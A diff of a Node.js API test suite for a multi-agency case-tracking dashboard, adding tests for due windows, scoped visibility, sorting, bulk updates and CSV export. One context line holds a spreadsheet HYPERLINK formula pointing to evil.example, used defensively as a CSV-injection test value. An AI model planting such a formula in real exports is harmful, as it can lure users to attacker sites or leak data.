@@ -14,8 +14,10 @@
 
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { createDatabase, flushAudit, psql, startServer } from './lib/harness.mjs';
-import { BOARD_ENV, assertError, boardWorld, createCase, login, todayIn } from './lib/board_fixtures.mjs';
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
+import { SOURCE_DIR, createDatabase, flushAudit, psql, startServer } from './lib/harness.mjs';
+import { BOARD_ENV, assertError, boardWorld, changeCounts, createCase, login, todayIn } from './lib/board_fixtures.mjs';
 
 const TZ = 'America/New_York';
 const FORMULA = '=HYPERLINK("http://evil.example/?x","click me")';
@@ -73,6 +75,7 @@ before(async () => {
     r = await as.cacMember.del(`/api/v1/actions/${I.retracted.id}`);
     assert.equal(r.status, 200, r.text);
     await make('otherCase', as.policeMember, caseB, { title: 'case b', assignee_agency_id: a.police, due_date: day(-2) });
+    await setupWorld2();
 });
 
 after(async () => {
@@ -121,7 +124,7 @@ test('the CAC sees its visible items across its cases, overdue first, then by du
     assert.equal(first.overdue, true);
     assert.equal(r.items[2].overdue, false);
     // the one Action serializer: the same object as the case endpoints give
-    const { case_number, alias, ...rest } = r.items.find((i) => i.id === I.soon.id);
+    const { case_number, alias, case_alias, ...rest } = r.items.find((i) => i.id === I.soon.id);
     assert.deepEqual(rest, I.soon);
 });
 
@@ -311,4 +314,362 @@ test('reads are audited with counts and filter names only', async () => {
     assert.equal(typeof listed.detail.count, 'number');
     assert.ok(rows.some((x) => x.action === 'action.export'));
     assert.ok(!JSON.stringify(rows).includes('HYPERLINK'));
+});
+
+// ---- a dashboard to work from (issue 14): due windows, lead/scope, sort,
+// days_overdue, closed_by/closed_at, names, bulk changes --------------------
+//
+// A second world of its own: case X led by DCF with the CAC and the police,
+// case Y led by the police with DCF, case Z led by the CAC with DCF. Due
+// dates come from the clock; "this week" is Monday to Sunday in TZ.
+
+let w2, X, Y, Z;
+const as2 = {};
+const J = {}; // items by name
+const d2 = (n) => todayIn(TZ, n);
+// Days from today to this week's Sunday (0 on a Sunday).
+const toSunday = () => (7 - new Date(`${d2(0)}T12:00:00Z`).getUTCDay()) % 7;
+
+// Called at the end of the file's before hook (hooks of one level may overlap).
+async function setupWorld2() {
+    w2 = await boardWorld(dbUrl);
+    for (const key of Object.keys(w2.users)) as2[key] = await login(server.url, w2.users[key]);
+    const a = w2.agencies;
+    X = await createCase(server.url, dbUrl, { lead: w2.users.dcfSupervisor, agencies: [a.dcf, a.cac, a.police], alias: 'X.X.' });
+    Y = await createCase(server.url, dbUrl, { lead: w2.users.policeSupervisor, agencies: [a.police, a.dcf], alias: 'Y.Y.' });
+    Z = await createCase(server.url, dbUrl, { lead: w2.users.cacSupervisor, agencies: [a.cac, a.dcf], alias: 'Z.Z.' });
+    const make = async (name, client, caseId, body) => {
+        const r = await client.post(`/api/v1/cases/${caseId}/actions`, { title: name, ...body });
+        assert.equal(r.status, 201, `${name}: ${r.text}`);
+        J[name] = r.json;
+    };
+    const dcfMember = w2.users.dcfMember.userId;
+    await make('dcfOverdue', as2.dcfMember, Y, { assignee_agency_id: a.dcf, assignee_id: dcfMember, due_date: d2(-3) });
+    await make('dcfSunday', as2.dcfMember, Y, { assignee_agency_id: a.dcf, due_date: d2(toSunday()) });
+    await make('dcfNextWeek', as2.dcfMember, X, { assignee_agency_id: a.dcf, assignee_id: dcfMember, due_date: d2(toSunday() + 1) });
+    await make('dcfFar', as2.dcfMember, X, { assignee_agency_id: a.dcf, due_date: d2(30) });
+    await make('policeOnX', as2.policeMember, X, { assignee_agency_id: a.police, assignee_id: w2.users.policeMember.userId, due_date: d2(0) });
+    await make('policeOnY', as2.policeMember, Y, { assignee_agency_id: a.police, due_date: d2(toSunday() + 2) });
+    await make('policeSecret', as2.policeMember, X, { assignee_agency_id: a.police, due_date: d2(-2), visibility: 'agency' });
+    await make('cacOnZ', as2.cacMember, Z, { assignee_agency_id: a.cac, due_date: d2(-1) });
+}
+
+const names = (items) => items.map((i) => i.title);
+const sorted = (xs) => [...xs].sort();
+
+async function list2(client, query) {
+    const r = await client.get(`/api/v1/actions${query}`);
+    assert.equal(r.status, 200, `${query}: ${r.text}`);
+    return r.json;
+}
+
+test('due windows from the clock: overdue, this week (Monday to Sunday), the next 14 days', async () => {
+    const sup = as2.dcfSupervisor;
+    // most overdue first
+    assert.deepEqual(names((await list2(sup, '?due=overdue')).items), ['dcfOverdue', 'cacOnZ']);
+    // this week: from today through Sunday; next Monday is not in it, whatever today is
+    assert.deepEqual(sorted(names((await list2(sup, '?due=week')).items)), sorted(['dcfSunday', 'policeOnX']));
+    assert.deepEqual(
+        sorted(names((await list2(sup, '?due=14d')).items)),
+        sorted(['dcfSunday', 'dcfNextWeek', 'policeOnX', 'policeOnY']),
+    );
+    // combined with the other filters
+    assert.deepEqual(names((await list2(sup, `?due=14d&agency_id=${w2.agencies.police}&case_id=${Y}`)).items), ['policeOnY']);
+});
+
+test('days_overdue: whole days past due while open; null otherwise', async () => {
+    const r = await list2(as2.dcfSupervisor, '');
+    const by = Object.fromEntries(r.items.map((i) => [i.title, i]));
+    assert.equal(by.dcfOverdue.days_overdue, 3);
+    assert.equal(by.cacOnZ.days_overdue, 1);
+    assert.equal(by.policeOnX.days_overdue, null, 'due today is not overdue');
+    assert.equal(by.dcfFar.days_overdue, null);
+    assert.equal(by.policeOnX.assignee_name, `policeMember ${w2.users.policeMember.username.split('_')[1]}`);
+    assert.equal(typeof by.policeOnX.assignee_agency_name, 'string');
+    assert.match(by.policeOnX.assignee_agency_name, /^police /);
+    assert.equal(by.policeOnX.case_alias, 'X.X.');
+    assert.match(by.policeOnX.case_number, /^T-/);
+});
+
+test('lead=mine, scope=supervisor (own agency or cases it leads), assignee_id', async () => {
+    const sup = as2.dcfSupervisor;
+    assert.deepEqual(sorted(names((await list2(sup, '?lead=mine')).items)), sorted(['dcfNextWeek', 'dcfFar', 'policeOnX']));
+    assert.deepEqual(
+        sorted(names((await list2(sup, '?scope=supervisor')).items)),
+        sorted(['dcfOverdue', 'dcfSunday', 'dcfNextWeek', 'dcfFar', 'policeOnX']),
+    );
+    assert.deepEqual(
+        sorted(names((await list2(sup, `?assignee_id=${w2.users.dcfMember.userId}`)).items)),
+        sorted(['dcfOverdue', 'dcfNextWeek']),
+    );
+    // the police supervisor leads Y: its scope is the police's items and Y's
+    assert.deepEqual(
+        sorted(names((await list2(as2.policeSupervisor, '?scope=supervisor')).items)),
+        sorted(['policeOnX', 'policeOnY', 'policeSecret', 'dcfOverdue', 'dcfSunday']),
+    );
+});
+
+test('a filter never reveals an item the caller may not see', async () => {
+    const queries = [
+        '',
+        '?lead=mine',
+        '?scope=supervisor',
+        `?agency_id=${w2.agencies.police}`,
+        `?case_id=${X}`,
+        `?assignee_id=${w2.users.policeMember.userId}`,
+        '?due=overdue',
+        '?due=week',
+        '?due=14d',
+        '?sort=agency&order=desc',
+        `?status=open&case_id=${X}&agency_id=${w2.agencies.police}&due=overdue`,
+    ];
+    for (const who of ['dcfSupervisor', 'dcfMember', 'cacSupervisor']) {
+        const all = new Set(ids((await list2(as2[who], '')).items));
+        assert.ok(!all.has(J.policeSecret.id), `${who} must not see an agency-only item of the police`);
+        for (const q of queries) {
+            const r = await list2(as2[who], q);
+            for (const it of r.items) assert.ok(all.has(it.id), `${who} ${q}: ${it.title}`);
+            assert.equal(r.total, r.items.length, `${who} ${q}: total counts what is listed`);
+        }
+    }
+    assert.deepEqual((await list2(as2.hospitalMember, '?scope=supervisor')).items, []);
+});
+
+test('sort and order: every column, both directions; sorted pages join up', async () => {
+    const sup = as2.dcfSupervisor;
+    const cmp = (x, y) => (x < y ? -1 : x > y ? 1 : 0);
+    const check = async (sort, key) => {
+        for (const order of ['asc', 'desc']) {
+            const r = await list2(sup, `?sort=${sort}&order=${order}`);
+            const withKey = r.items.filter((i) => key(i) !== null);
+            const keys = withKey.map(key);
+            const want = [...keys].sort((p, q) => (order === 'asc' ? cmp(p, q) : cmp(q, p)));
+            assert.deepEqual(keys, want, `${sort} ${order}`);
+            // items without the key come last either way
+            assert.deepEqual(r.items.slice(withKey.length).map(key).filter((k) => k !== null), [], `${sort} ${order}: nulls last`);
+        }
+    };
+    await check('due', (i) => i.due_date);
+    await check('case', (i) => i.case_number);
+    await check('status', (i) => ['open', 'in_progress', 'done', 'cancelled'].indexOf(i.status));
+    await check('assignee', (i) => i.assignee_name);
+    await check('agency', (i) => i.assignee_agency_name);
+    await check('closed', (i) => i.closed_at);
+    const whole = (await list2(sup, '?sort=agency&order=desc')).items;
+    const paged = [];
+    let cursor = '';
+    for (let n = 0; n < 20; n++) {
+        const r = await list2(sup, `?sort=agency&order=desc&limit=2${cursor ? `&cursor=${cursor}` : ''}`);
+        paged.push(...r.items);
+        if (!r.next) break;
+        assert.match(r.next, /^p\d+$/);
+        cursor = encodeURIComponent(r.next);
+    }
+    assert.deepEqual(ids(paged), ids(whole));
+});
+
+test('closed_by and closed_at: set on done or cancelled, kept between them, cleared when reopened', async () => {
+    const id = J.dcfFar.id;
+    let r = await as2.dcfMember.patch(`/api/v1/actions/${id}`, { version: 1, status: 'done' });
+    assert.equal(r.status, 200, r.text);
+    assert.equal(r.json.closed_by, w2.users.dcfMember.userId);
+    assert.equal(r.json.closed_by_name, `dcfMember ${w2.users.dcfMember.username.split('_')[1]}`);
+    assert.match(r.json.closed_at, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
+    const closedAt = r.json.closed_at;
+    r = await as2.dcfSupervisor.patch(`/api/v1/actions/${id}`, { version: 2, status: 'cancelled' });
+    assert.equal(r.status, 200, r.text);
+    assert.equal(r.json.closed_by, w2.users.dcfMember.userId, 'kept: it was closed already');
+    assert.equal(r.json.closed_at, closedAt);
+    // the list shows it and sorts it first by closing
+    const listed = await list2(as2.dcfSupervisor, '?sort=closed&order=desc');
+    assert.equal(listed.items[0].id, id);
+    assert.equal(listed.items[0].closed_by_name, r.json.closed_by_name);
+    r = await as2.dcfSupervisor.patch(`/api/v1/actions/${id}`, { version: 3, status: 'in_progress' });
+    assert.equal(r.status, 200, r.text);
+    assert.equal(r.json.closed_by, null);
+    assert.equal(r.json.closed_at, null);
+    assert.equal(r.json.closed_by_name, null);
+    // the history keeps who closed it, as the versions recorded it
+    const hist = JSON.parse(
+        await psql(dbUrl, `SELECT json_agg(json_build_object('v', version, 'by', data->'closed_by') ORDER BY version) FROM action_versions WHERE action_id = ${id}`),
+    );
+    assert.deepEqual(hist.map((h) => h.by), [null, w2.users.dcfMember.userId, w2.users.dcfMember.userId, null]);
+});
+
+test('migration 011 fills closed_by/closed_at from the version that closed an item last', async () => {
+    const r = await as2.dcfMember.post(`/api/v1/cases/${Y}/actions`, { title: 'closed twice', assignee_agency_id: w2.agencies.dcf });
+    assert.equal(r.status, 201, r.text);
+    const id = r.json.id;
+    const steps = [
+        [as2.dcfMember, 'done'],
+        [as2.dcfSupervisor, 'open'],
+        [as2.dcfSupervisor, 'done'],
+        [as2.dcfMember, 'cancelled'], // still closed: who closed it stays
+    ];
+    for (const [k, [client, st]] of steps.entries()) {
+        const p = await client.patch(`/api/v1/actions/${id}`, { version: k + 1, status: st });
+        assert.equal(p.status, 200, p.text);
+    }
+    const read = async () => psql(dbUrl, `SELECT closed_by || ' ' || closed_at FROM actions WHERE id = ${id}`);
+    const served = await read();
+    assert.match(served, new RegExp(`^${w2.users.dcfSupervisor.userId} `));
+    // the migration's backfill, run again on this item with its columns emptied
+    const sql = readFileSync(path.join(SOURCE_DIR, 'schema', '011_action_closed.sql'), 'utf8');
+    const backfill = /^UPDATE actions a[\s\S]*?;$/m.exec(sql)?.[0];
+    assert.ok(backfill, 'the backfill statement');
+    await psql(dbUrl, `UPDATE actions SET closed_at = NULL, closed_by = NULL WHERE id = ${id}; ${backfill}`);
+    assert.equal(await read(), served);
+});
+
+// Event and change-audit counts of every case of the second world.
+async function counts2() {
+    return Promise.all([X, Y, Z].map((c) => changeCounts(dbUrl, c)));
+}
+
+async function state(id) {
+    return JSON.parse(await psql(dbUrl, `SELECT row_to_json(a) FROM (SELECT status, version, assignee_id, due_date FROM actions WHERE id = ${id}) a`));
+}
+
+test('bulk: every item changed in one transaction, audited and evented as a PATCH each', async () => {
+    const before = await counts2();
+    const r = await as2.dcfSupervisor.post('/api/v1/actions/bulk', {
+        ids: [J.dcfSunday.id, J.dcfOverdue.id],
+        set: { status: 'done' },
+        versions: { [J.dcfOverdue.id]: J.dcfOverdue.version },
+    });
+    assert.equal(r.status, 200, r.text);
+    assert.deepEqual(ids(r.json.items), [J.dcfOverdue.id, J.dcfSunday.id].sort((p, q) => p - q));
+    for (const it of r.json.items) {
+        assert.equal(it.status, 'done');
+        assert.equal(it.closed_by, w2.users.dcfSupervisor.userId);
+        assert.equal(it.days_overdue, null);
+    }
+    const after = await counts2();
+    assert.deepEqual(after[1], { events: before[1].events + 2, audit: before[1].audit + 2 });
+    assert.deepEqual([after[0], after[2]], [before[0], before[2]]);
+    const rows = JSON.parse(
+        await psql(
+            dbUrl,
+            `SELECT json_agg(json_build_object('a', action, 'o', object_id, 'd', detail) ORDER BY id)
+               FROM (SELECT * FROM audit WHERE case_id = ${Y} AND action = 'action.update' ORDER BY id DESC LIMIT 2) x`,
+        ),
+    );
+    assert.deepEqual(sorted(rows.map((x) => Number(x.o))), sorted([J.dcfSunday.id, J.dcfOverdue.id]));
+    for (const x of rows) assert.deepEqual([x.a, x.d.status, x.d.fields], ['action.update', 'done', ['status']]);
+    // the same change as a bulk of assignee and due date
+    const r2 = await as2.dcfSupervisor.post('/api/v1/actions/bulk', {
+        ids: [J.dcfNextWeek.id],
+        set: { assignee_id: w2.users.dcfSupervisor.userId, due_date: d2(2) },
+    });
+    assert.equal(r2.status, 200, r2.text);
+    assert.equal(r2.json.items[0].assignee_id, w2.users.dcfSupervisor.userId);
+    assert.equal(r2.json.items[0].due_date, d2(2));
+});
+
+test('bulk is all or nothing: one item the caller may not change refuses the whole request', async () => {
+    const sup = as2.dcfSupervisor;
+    const watched = [J.policeOnX.id, J.policeOnY.id, J.cacOnZ.id, J.dcfNextWeek.id];
+    const snap = async () => Promise.all(watched.map(state));
+    const before = await counts2();
+    const s0 = await snap();
+    // policeOnX is on the case DCF leads (the lead supervisor may change it);
+    // policeOnY is the police's on the police's case: 403, and policeOnX stays as it was
+    let r = await sup.post('/api/v1/actions/bulk', { ids: [J.policeOnX.id, J.policeOnY.id], set: { status: 'done' } });
+    assertError(r, 403, 'forbidden', 'ids');
+    assert.match(r.json.error.message, new RegExp(`^action item ${J.policeOnY.id}: `));
+    // an item the caller may not see: 404, as if it did not exist
+    r = await sup.post('/api/v1/actions/bulk', { ids: [J.dcfNextWeek.id, J.policeSecret.id], set: { status: 'done' } });
+    assertError(r, 404, 'not_found', 'ids');
+    r = await sup.post('/api/v1/actions/bulk', { ids: [J.dcfNextWeek.id, 999999999], set: { status: 'done' } });
+    assertError(r, 404, 'not_found', 'ids');
+    // a stale version: 409 with the item as the caller sees it
+    r = await sup.post('/api/v1/actions/bulk', {
+        ids: [J.policeOnX.id, J.dcfNextWeek.id],
+        set: { status: 'in_progress' },
+        versions: { [J.dcfNextWeek.id]: 1 },
+    });
+    assert.equal(r.status, 409, r.text);
+    assert.equal(r.json.error.current.id, J.dcfNextWeek.id);
+    // a check of the data: the assignee agency must be on the case (legal aid is on none)
+    r = await sup.post('/api/v1/actions/bulk', { ids: [J.policeOnX.id, J.dcfNextWeek.id], set: { assignee_agency_id: w2.agencies.legal } });
+    assertError(r, 422, 'validation', 'assignee_agency_id');
+    assert.deepEqual(await snap(), s0, 'nothing changed');
+    assert.deepEqual(await counts2(), before, 'no event, no audit row of a change');
+    // the refused attempt is audited as denied
+    await flushAudit(server);
+    const denied = Number(
+        await psql(dbUrl, `SELECT count(*) FROM audit WHERE user_id = ${w2.users.dcfSupervisor.userId} AND outcome = 'denied'`),
+    );
+    assert.ok(denied >= 2, `denied rows: ${denied}`);
+});
+
+test('bulk: bad requests are 422 (400 for a wrong type) naming the field, and change nothing', async () => {
+    const sup = as2.dcfSupervisor;
+    const id = J.policeOnX.id;
+    const before = await counts2();
+    const many = Array.from({ length: 201 }, (_, i) => i + 1);
+    const cases = [
+        [{ ids: [], set: { status: 'done' } }, 422, 'ids'],
+        [{ ids: many, set: { status: 'done' } }, 422, 'ids'],
+        [{ set: { status: 'done' } }, 422, 'ids'],
+        [{ ids: [id] }, 422, 'set'],
+        [{ ids: [id], set: {} }, 422, 'set'],
+        [{ ids: [id], set: { title: 'x' } }, 422, 'set'],
+        [{ ids: [id], set: { status: 'closed' } }, 422, 'status'],
+        [{ ids: [id], set: { due_date: '2026-02-30' } }, 422, 'due_date'],
+        [{ ids: [id], set: { status: 'done' }, versions: { 12345: 1 } }, 422, 'versions'],
+        [{ ids: [id], set: { status: 'done' }, versions: { [id]: 0 } }, 422, 'versions'],
+        [{ ids: ['x'], set: { status: 'done' } }, 400, 'ids'],
+    ];
+    for (const [body, status, field] of cases) {
+        const r = await sup.post('/api/v1/actions/bulk', body);
+        assert.equal(r.status, status, `${JSON.stringify(body).slice(0, 80)}: ${r.text}`);
+        assert.equal(r.json.error.field, field, r.text);
+    }
+    assert.deepEqual(await counts2(), before);
+});
+
+test('actions.csv: names (case number, assignee, agencies, closed by/at, days overdue) and the same filters', async () => {
+    const r = await as2.dcfSupervisor.get('/api/v1/actions.csv?scope=supervisor&sort=due');
+    assert.equal(r.status, 200, r.text);
+    const [header, ...body] = parseCsv(r.text);
+    for (const col of ['case_number', 'assignee_name', 'assignee_agency_name', 'agency_name', 'closed_by_name', 'closed_at', 'days_overdue']) {
+        assert.ok(header.includes(col), col);
+    }
+    const json = await list2(as2.dcfSupervisor, '?scope=supervisor&sort=due');
+    assert.deepEqual(body.map((row) => Number(row[0])), ids(json.items));
+    const col = (name) => header.indexOf(name);
+    for (const [k, row] of body.entries()) {
+        const it = json.items[k];
+        assert.equal(row[col('case_number')], it.case_number);
+        assert.equal(row[col('assignee_agency_name')], it.assignee_agency_name);
+        assert.equal(row[col('assignee_name')], it.assignee_name ?? '');
+        assert.equal(row[col('closed_by_name')], it.closed_by_name ?? '');
+        assert.equal(row[col('closed_at')], it.closed_at ?? '');
+        assert.equal(row[col('days_overdue')], it.days_overdue === null ? '' : String(it.days_overdue));
+    }
+    assert.ok(body.some((row) => row[col('closed_by_name')] !== ''), 'a closed item names who closed it');
+    assert.ok(body.some((row) => /^police /.test(row[col('assignee_agency_name')])));
+    const week = await as2.dcfSupervisor.get('/api/v1/actions.csv?due=week&status=open,in_progress');
+    assert.deepEqual(
+        parseCsv(week.text).slice(1).map((row) => Number(row[0])),
+        ids((await list2(as2.dcfSupervisor, '?due=week&status=open,in_progress')).items),
+    );
+});
+
+test('new bad filters: 422 naming the parameter', async () => {
+    for (const [q, field] of [
+        ['?due=tomorrow', 'due'],
+        ['?lead=theirs', 'lead'],
+        ['?scope=agency', 'scope'],
+        ['?sort=title', 'sort'],
+        ['?order=up', 'order'],
+        ['?sort=due&cursor=1.-.5', 'cursor'],
+        ['?sort=due&cursor=p0', 'cursor'],
+        ['?cursor=p2', 'cursor'],
+        ['?assignee_id=0', 'assignee_id'],
+    ]) {
+        assertError(await as2.dcfSupervisor.get(`/api/v1/actions${q}`), 422, 'validation', field);
+        assertError(await as2.dcfSupervisor.get(`/api/v1/actions.csv${q}`), 422, 'validation', field);
+    }
 });
